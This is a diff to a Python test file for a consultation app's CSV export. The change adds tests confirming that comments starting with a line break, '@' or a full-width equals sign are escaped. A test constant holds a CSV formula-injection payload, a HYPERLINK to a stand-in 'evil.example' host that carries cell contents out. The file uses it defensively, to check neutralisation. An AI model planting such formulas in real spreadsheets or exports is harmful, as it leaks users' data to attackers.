@@ -13,9 +13,9 @@ import asyncpg
 import httpx
 import pytest
 
+from localrights.csvsafe import FORMULA_STARTS
 from localrights.db import asyncpg_dsn
 from localrights_consultation.config import Settings
-from localrights_consultation.domain.exports import FORMULA_STARTS
 
 INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")'  # the conftest's first senior
 
@@ -195,6 +195,30 @@ class TestExports:
         cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
         assert "'" + INJECTION in cells
         assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
+
+    @pytest.mark.parametrize("comment", ["\n=1+1", "\r@SUM(A1)", "\uff1dHYPERLINK(A1)"])
+    async def test_a_leading_line_break_or_full_width_sign_is_escaped_too(
+        self,
+        client: httpx.AsyncClient,
+        surveyed: dict[str, Any],
+        officer: dict[str, str],
+        answers: Answers,
+        resident: Callable[..., dict[str, str]],
+        comment: str,
+    ) -> None:
+        sent = await client.post(
+            f"{API}/{surveyed['id']}/responses",
+            json={"answers": answers(age="youth", safety=2, comment=comment)},
+            headers=resident("line-break"),
+        )
+        assert sent.status_code == 201, sent.text
+        response = await client.get(
+            f"{API}/{surveyed['id']}/export",
+            params={"format": "csv", "what": "responses"},
+            headers=officer,
+        )
+        comments = [row["comment"] for row in csv.DictReader(io.StringIO(response.text))]
+        assert "'" + comment in comments
 
     async def test_only_the_owner_exports(
         self,
